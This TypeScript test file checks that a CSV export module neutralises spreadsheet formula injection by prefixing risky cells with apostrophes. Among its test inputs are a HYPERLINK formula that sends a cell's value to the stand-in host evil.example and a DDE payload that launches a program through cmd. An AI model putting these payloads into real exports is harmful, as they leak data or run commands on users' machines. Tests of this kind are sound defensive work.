import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvBody, csvCell, csvHead, csvOf } from './csv.ts';

/** The cells as a CSV parser returns them. */
function parse(csv: string): string[][] {
  return Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
}

const anyCell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({
    unit: fc.constantFrom(...'=+-@＝＋－＠﹦\t\r\n",;|\' \u00A0\u200B\uFEFFab'.split('')),
  }),
);

/** A cell that a spreadsheet runs, perhaps after it removed quotation marks and what cannot be seen. */
const LIVE = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;

describe('csvOf', () => {
  it('starts with a byte order mark and ends lines as RFC 4180 requires', () => {
    expect(csvOf(['a', 'b'], [['1', 'ü']])).toBe('\uFEFFa,b\r\n1,ü\r\n');
  });

  it('has only the column names if there are no rows', () => {
    expect(csvOf(['a', 'b'], [])).toBe('\uFEFFa,b\r\n');
  });

  it('preserves every cell without anything that a spreadsheet would run', () => {
    const harmless = fc
      .string({ unit: 'grapheme' })
      .filter((cell) => !/[=+\-@＝＋－＠﹦﹢﹣﹫\0]/.test(cell));
    const cells = harmless.filter((cell) => !/^[\t\r\n]/.test(cell));
    fc.assert(
      fc.property(fc.array(fc.tuple(cells, cells), { minLength: 1 }), (rows) => {
        expect(parse(csvOf(['a', 'b'], rows))).toEqual([['a', 'b'], ...rows]);
      }),
    );
  });

  it('only adds apostrophes to a cell', () => {
    fc.assert(
      fc.property(anyCell, (cell) => {
        const written = csvCell(cell);
        expect(written.replaceAll("'", '')).toBe(cell.replaceAll("'", ''));
      }),
    );
  });

  it('quotes cells with a character that another reader takes for the separator', () => {
    expect(csvBody([['a;b', 'a\tb', 'a|b', 'a b']])).toBe('"a;b","a\tb","a|b",a b\r\n');
  });

  it('replaces NUL characters and lone surrogates in every cell', () => {
    expect(csvOf(['a\0'], [['\uD83D'], ['b\uDE00c']])).toBe(
      '\uFEFFa\uFFFD\r\n\uFFFD\r\nb\uFFFDc\r\n',
    );
  });
});

describe('a CSV in chunks', () => {
  it('has the byte order mark and the column names once, and a line ending after each chunk', () => {
    expect(csvHead(['a', 'b'])).toBe('\uFEFFa,b\r\n');
    expect(csvBody([['1', '=2']])).toBe('1,"\'=2"\r\n');
    expect(csvBody([])).toBe('');
  });

  it('equals the CSV of all rows, wherever it is split', () => {
    const table = fc.array(fc.tuple(anyCell, anyCell));
    fc.assert(
      fc.property(table, table, table, (one, two, three) => {
        const chunks = [csvHead(['a', '=b']), ...[one, two, three].map(csvBody)];
        expect(chunks.join('')).toBe(csvOf(['a', '=b'], [...one, ...two, ...three]));
      }),
    );
  });
});

describe('awkward payloads: cells that a spreadsheet would evaluate', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("https://evil.example?"&A1,"click")',
      '\'=HYPERLINK("https://evil.example?"&A1,"click")',
    ],
    ['+49 40 123', "'+49 40 123"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['\tno formula', "'\tno formula"],
    [' \u00A0\uFEFF\u200B=1+1', " \u00A0\uFEFF\u200B'=1+1"],
    ['=1+1\nsecond line', "'=1+1\nsecond line"],
    ['first line\r\n- second line', "first line\r\n'- second line"],
    ['=1+1";=2+2', "'=1+1\";'=2+2"],
    ['a "=1+1" b', 'a "\'=1+1" b'],
    ['＝1+1', "'＝1+1"],
    ['﹦1+1', "'﹦1+1"],
    ['hello;=1+1;@SUM(1)', "hello;'=1+1;'@SUM(1)"],
    ['x;=2+3;y', "x;'=2+3;y"],
    ['a, \t ;|-1', "a, \t ;|'-1"],
    ['1+1=2, a-b; a@b.example', '1+1=2, a-b; a@b.example'],
    ["a;'=1", "a;'=1"],
  ])('turns %j into text and keeps it in one cell', (cell, text) => {
    expect(csvCell(cell)).toBe(text);
    expect(parse(csvOf(['a', 'b'], [[cell, 'next']]))[1]).toEqual([text, 'next']);
  });

  const READERS: readonly (readonly [string, string, string])[] = [',', ';', '\t', '|'].flatMap(
    (delimiter) =>
      [
        ['with', '"'],
        ['without', '\u0001'],
      ].map(([quotes = '', quoteChar = '']) => [delimiter, quotes, quoteChar] as const),
  );

  it.each(READERS)(
    'has no formula for a reader with the separator %j %s quotation marks',
    (delimiter, _quotes, quoteChar) => {
      fc.assert(
        fc.property(fc.array(fc.tuple(anyCell, anyCell, anyCell), { minLength: 1 }), (rows) => {
          const csv = csvOf(['a', 'b', 'c'], rows).slice(1);
          const cells = Papa.parse<string[]>(csv, { delimiter, quoteChar }).data.flat();
          expect(cells.filter((cell) => LIVE.test(cell))).toEqual([]);
        }),
        { numRuns: 400 },
      );
    },
  );

  it('takes a time proportional to the length of the text', () => {
    const text = `${'\n \t"'.repeat(250_000)}x`;
    expect(csvCell(text)).toBe(`'${text}`);
    expect(csvCell(`;${text}=`)).toBe(`;${text}=`);
  });
});
